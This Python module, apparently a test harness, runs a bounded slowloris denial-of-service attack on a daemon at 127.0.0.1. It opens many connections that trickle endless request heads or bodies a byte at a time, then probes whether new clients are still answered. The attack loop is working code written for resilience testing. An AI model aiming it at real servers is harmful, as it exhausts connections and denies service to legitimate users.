"""A reopening slowloris against a daemon on 127.0.0.1, and new-client probes measured while it runs.

Each of the attack's connections sends one byte of a request that never ends (a head, or a body after a
whole head) every `pace_seconds`, and is reopened as soon as the daemon closes it, scaled so that it runs
in seconds (a daemon under test is told a short head deadline). The pacing of the
attacker's bytes is the attack itself; the loop is bounded in rounds and stops by itself.
"""

from __future__ import annotations

import http.client
import socket
import threading
from dataclasses import dataclass, field

# A request head that never ends: a request line, then one header whose value goes on and on.
ENDLESS_HEAD = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Padding: " + b"a" * 100_000
# A whole head promising a small body, then the body a byte at a time.
ENDLESS_BODY = b"POST /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 60000\r\n\r\n" + b"b" * 60_000


@dataclass
class Slowloris:
    """`connections` trickling `payload` at the daemon on `port`, each reopened when the daemon closes it."""

    port: int
    payload: bytes
    connections: int = 200
    pace_seconds: float = 0.1
    max_rounds: int = 600  # at 0.1 s a round: one minute at most, whatever happens to the test
    reopened: int = 0
    # Set once every connection is open and as many have been closed by the daemon and reopened: the attack
    # is at full strength, and the daemon is seen closing trickling connections.
    established: threading.Event = field(default_factory=threading.Event)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __enter__(self) -> Slowloris:
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        assert self._thread is not None
        self._thread.join(30)

    def _open(self) -> socket.socket | None:
        try:
            sock = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        except OSError:
            return None
        sock.setblocking(False)
        return sock

    def _run(self) -> None:
        socks: list[socket.socket | None] = [self._open() for _ in range(self.connections)]
        sent = [0] * self.connections
        try:
            for _ in range(self.max_rounds):
                for i, sock in enumerate(socks):
                    if sock is not None and self._trickle(sock, sent[i]):
                        sent[i] += 1
                        continue
                    if sock is not None:
                        sock.close()
                        self.reopened += 1
                    socks[i], sent[i] = self._open(), 0
                if self.reopened >= self.connections and all(s is not None for s in socks):
                    self.established.set()
                if self._stop.wait(self.pace_seconds):
                    return
        finally:
            for sock in socks:
                if sock is not None:
                    sock.close()

    def _trickle(self, sock: socket.socket, sent: int) -> bool:
        """One more byte; False once the daemon has closed the connection."""
        try:
            if sock.recv(1024, socket.MSG_PEEK) == b"":
                return False
        except BlockingIOError:
            pass  # nothing from the daemon: still open
        except OSError:
            return False
        try:
            return sock.send(self.payload[sent % len(self.payload) : sent % len(self.payload) + 1]) == 1
        except BlockingIOError:
            return True
        except OSError:
            return False


def probe(port: int, path: str, timeout: float = 1.0) -> int | None:
    """One new client's request: the status it was answered with, None when it was not answered in time."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("GET", path)
        response = conn.getresponse()
        response.read()
        return response.status
    except (OSError, http.client.HTTPException):
        return None
    finally:
        conn.close()


def probe_during(
    attack: Slowloris, port: int, path: str, probes: int = 40, spacing_seconds: float = 0.05, timeout: float = 1.0
) -> list:
    """Statuses of `probes` new clients spread over the attack once it is at full strength, each given
    `timeout` seconds to be answered."""
    assert attack.established.wait(30), f"the attack never reached full strength ({attack.reopened} reopened)"
    pacing = threading.Event()
    statuses = []
    for _ in range(probes):
        statuses.append(probe(port, path, timeout))
        pacing.wait(spacing_seconds)
    return statuses
